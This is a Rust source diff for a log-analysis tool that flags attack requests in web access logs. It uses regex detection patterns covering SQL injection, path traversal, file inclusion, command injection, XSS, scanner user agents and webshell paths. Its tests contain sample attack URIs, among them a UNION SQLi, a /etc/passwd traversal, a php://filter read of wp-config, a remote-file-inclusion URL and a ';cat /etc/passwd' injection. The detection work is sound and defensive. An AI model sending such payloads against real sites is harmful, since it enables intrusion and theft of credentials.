@@ -1,0 +1,279 @@
+//! Attack classification of one request from what an access log keeps: method, target
+//! (path and query), status and user agent. POST bodies are never logged, so this sees what
+//! scalp and lorg see: URI-borne attacks, scanner fingerprints, and requests to webshells.
+//!
+//! Targets are percent-decoded (twice, as attackers double-encode) and lower-cased before
+//! matching.
+
+use std::sync::LazyLock;
+
+use regex::{Regex, RegexSet};
+use serde::Serialize;
+
+use crate::access_log::HttpRequest;
+
+/// A kind of attack request.
+#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize)]
+#[serde(rename_all = "kebab-case")]
+pub enum AttackKind {
+    /// SQL injection.
+    Sqli,
+    /// Path traversal.
+    Traversal,
+    /// Local file inclusion (`php://`, `/etc/passwd` through a parameter).
+    Lfi,
+    /// Remote file inclusion (a URL as a parameter value).
+    Rfi,
+    /// OS command injection.
+    CommandInjection,
+    /// Cross-site scripting.
+    Xss,
+    /// A known vulnerability scanner's user agent.
+    Scanner,
+    /// Probing for secrets and admin panels (`/.env`, `/.git/`, backups).
+    Probe,
+    /// A request to a webshell (known name, script in an upload folder, command parameter).
+    WebshellAccess,
+}
+
+impl AttackKind {
+    /// Stable name.
+    pub fn as_str(self) -> &'static str {
+        match self {
+            AttackKind::Sqli => "sqli",
+            AttackKind::Traversal => "traversal",
+            AttackKind::Lfi => "lfi",
+            AttackKind::Rfi => "rfi",
+            AttackKind::CommandInjection => "command-injection",
+            AttackKind::Xss => "xss",
+            AttackKind::Scanner => "scanner",
+            AttackKind::Probe => "probe",
+            AttackKind::WebshellAccess => "webshell-access",
+        }
+    }
+}
+
+const TARGET_PATTERNS: &[(AttackKind, &str)] = &[
+    (
+        AttackKind::Sqli,
+        r"union(\s|/\*.*?\*/)+(all(\s|/\*.*?\*/)+)?select",
+    ),
+    (
+        AttackKind::Sqli,
+        r#"['"`)]\s*(or|and)\s+['"(]?\w+['")]?\s*(=|like|>|<)"#,
+    ),
+    (AttackKind::Sqli, r"\b(sleep|benchmark|pg_sleep)\s*\(\s*\d"),
+    (
+        AttackKind::Sqli,
+        r"information_schema|load_file\s*\(|into\s+(out|dump)file|waitfor\s+delay|extractvalue\s*\(|updatexml\s*\(|\bxp_cmdshell",
+    ),
+    (AttackKind::Sqli, r"'\s*(--|#|;)"),
+    (
+        AttackKind::Traversal,
+        r"(\.\./|\.\.\\){2,}|/etc/(passwd|shadow|hosts)|(boot|win)\.ini|/windows/system32",
+    ),
+    (
+        AttackKind::Lfi,
+        r"(php|zip|phar|expect|data|glob)://|/proc/self/(environ|fd)",
+    ),
+    (
+        AttackKind::Lfi,
+        r"[?&](file|page|include|inc|path|template|doc|lang|view|cat|dir)=[^&]*(\.\./|/etc/|\.log|%00)",
+    ),
+    (
+        AttackKind::Rfi,
+        r"[?&][a-z0-9_\[\]]+=(https?|ftp)://[^&]*(\.(txt|php|jpg|gif)\??|\?)$",
+    ),
+    (
+        AttackKind::CommandInjection,
+        r"(;|\||&&|`|\$\()\s*(cat|ls|id|whoami|uname|wget|curl|nc|ncat|bash|sh|ping|nslookup|echo|powershell|certutil|busybox)\b",
+    ),
+    (
+        AttackKind::CommandInjection,
+        r"[?&](cmd|exec|command|execute|run|shell|c)=(id|whoami|ls|dir|pwd|uname|ipconfig|ifconfig|net(\s|%20)user|cat\s|type\s|echo\s|wget|curl)",
+    ),
+    (
+        AttackKind::CommandInjection,
+        r"/bin/(ba)?sh|cmd\.exe|\$\{jndi:|\$\{(::-j|lower:j)",
+    ),
+    (
+        AttackKind::Xss,
+        r"<script|javascript:|\bon(error|load|mouseover)\s*=|alert\s*\(|document\.cookie",
+    ),
+    (
+        AttackKind::Probe,
+        r"/\.(env|git/|svn/|htpasswd|aws/|ds_store|ssh/)|\.(bak|old|orig|save|swp|sql|tar\.gz|zip)(\?|$)|/(phpmyadmin|pma|myadmin|adminer)\b|/server-status|/wp-config\.php[^/]|/(manager/html|jmx-console|actuator/|solr/admin)",
+    ),
+    (
+        AttackKind::WebshellAccess,
+        r"/(c99|r57|wso|b374k|alfa|indoxploit|webshell|sh3ll|priv8|leafmailer|chopper|godzilla|behinder|filesman|p0wny)[^/]*\.(php\d?|phtml|jsp|jspx|aspx?|ashx)(\?|$)",
+    ),
+    (
+        AttackKind::WebshellAccess,
+        r"/(wp-content/)?uploads?/.*\.(php\d?|phtml|phar|jsp|aspx?)(\?|$)",
+    ),
+    (
+        AttackKind::WebshellAccess,
+        r"\.(jpe?g|png|gif|ico|bmp|txt)\.(php\d?|phtml|aspx?|jsp)(\?|$)",
+    ),
+];
+
+const SCANNER_AGENTS: &str = r"sqlmap|nikto|nmap|masscan|zgrab|nuclei|wpscan|acunetix|netsparker|dirbuster|gobuster|ffuf|feroxbuster|w3af|openvas|nessus|havij|jaeles|whatweb|wfuzz|commix|joomscan|arachni|skipfish|zmeu|morfeus";
+
+struct Patterns {
+    set: RegexSet,
+    kinds: Vec<AttackKind>,
+    scanners: Regex,
+}
+
+static PATTERNS: LazyLock<Option<Patterns>> = LazyLock::new(|| {
+    Some(Patterns {
+        set: RegexSet::new(TARGET_PATTERNS.iter().map(|(_, p)| *p)).ok()?,
+        kinds: TARGET_PATTERNS.iter().map(|(k, _)| *k).collect(),
+        scanners: Regex::new(SCANNER_AGENTS).ok()?,
+    })
+});
+
+fn hex(b: u8) -> Option<u8> {
+    match b {
+        b'0'..=b'9' => Some(b - b'0'),
+        b'a'..=b'f' => Some(b - b'a' + 10),
+        b'A'..=b'F' => Some(b - b'A' + 10),
+        _ => None,
+    }
+}
+
+/// Percent-decodes (and `+` → space); invalid escapes stay as they are.
+pub(crate) fn percent_decode(s: &str) -> String {
+    let b = s.as_bytes();
+    let mut out = Vec::with_capacity(b.len());
+    let mut i = 0;
+    while i < b.len() {
+        match b[i] {
+            b'%' if i + 2 < b.len() => match (hex(b[i + 1]), hex(b[i + 2])) {
+                (Some(h), Some(l)) => {
+                    out.push(h * 16 + l);
+                    i += 3;
+                    continue;
+                }
+                _ => out.push(b'%'),
+            },
+            b'+' => out.push(b' '),
+            c => out.push(c),
+        }
+        i += 1;
+    }
+    String::from_utf8_lossy(&out).into_owned()
+}
+
+/// The normalised target matched against the patterns.
+pub(crate) fn normalise(req: &HttpRequest) -> String {
+    let raw = if req.query.is_empty() {
+        req.path.clone()
+    } else {
+        format!("{}?{}", req.path, req.query)
+    };
+    let mut t = percent_decode(&raw);
+    if t.contains('%') {
+        t = percent_decode(&t);
+    }
+    t.to_lowercase()
+}
+
+/// The attack kinds a request shows (sorted, unique).
+pub fn classify(req: &HttpRequest) -> Vec<AttackKind> {
+    let Some(p) = PATTERNS.as_ref() else {
+        return Vec::new();
+    };
+    let target = normalise(req);
+    let mut kinds: Vec<AttackKind> = p.set.matches(&target).iter().map(|i| p.kinds[i]).collect();
+    if p.scanners.is_match(&req.user_agent.to_lowercase()) {
+        kinds.push(AttackKind::Scanner);
+    }
+    kinds.sort_unstable();
+    kinds.dedup();
+    kinds
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn req(target: &str, ua: &str) -> HttpRequest {
+        let (path, query) = target.split_once('?').unwrap_or((target, ""));
+        HttpRequest {
+            ts: chrono::DateTime::default(),
+            client: "198.51.100.9".into(),
+            method: "GET".into(),
+            path: path.into(),
+            query: query.into(),
+            status: 200,
+            bytes: 0,
+            referer: String::new(),
+            user_agent: ua.into(),
+        }
+    }
+
+    #[test]
+    fn positives_and_negatives() {
+        use AttackKind::*;
+        let cases: &[(&str, &str, &[AttackKind])] = &[
+            (
+                "/item.php?id=1%27%20UNION%20SELECT%201,2,user()--",
+                "",
+                &[Sqli],
+            ),
+            ("/item.php?id=1'+or+'1'='1", "", &[Sqli]),
+            (
+                "/index.php?page=../../../../etc/passwd",
+                "",
+                &[Traversal, Lfi],
+            ),
+            (
+                "/index.php?page=php://filter/convert.base64-encode/resource=wp-config",
+                "",
+                &[Lfi],
+            ),
+            ("/index.php?inc=http://203.0.113.5/shell.txt?", "", &[Rfi]),
+            (
+                "/ping.php?host=127.0.0.1;cat%20/etc/passwd",
+                "",
+                &[Traversal, CommandInjection],
+            ),
+            (
+                "/search?q=%253Cscript%253Ealert(1)%253C/script%253E",
+                "",
+                &[Xss],
+            ),
+            ("/", "sqlmap/1.7.2#stable (https://sqlmap.org)", &[Scanner]),
+            ("/.env", "", &[Probe]),
+            (
+                "/wp-content/uploads/2026/01/cache.php",
+                "",
+                &[WebshellAccess],
+            ),
+            (
+                "/images/logo.jpg.php?cmd=id",
+                "",
+                &[CommandInjection, WebshellAccess],
+            ),
+            // Benign.
+            (
+                "/wp-content/themes/twentytwenty/style.css?ver=2.1",
+                "Mozilla/5.0",
+                &[],
+            ),
+            ("/products/?category=shoes&sort=price", "Mozilla/5.0", &[]),
+            ("/search?q=rock+and+roll+union+station", "Mozilla/5.0", &[]),
+            ("/blog/2026/01/select-the-best-option/", "Mozilla/5.0", &[]),
+            (
+                "/wp-admin/admin-ajax.php?action=heartbeat",
+                "Mozilla/5.0",
+                &[],
+            ),
+        ];
+        for (t, ua, want) in cases {
+            assert_eq!(classify(&req(t, ua)), *want, "{t}");
+        }
+    }
+}
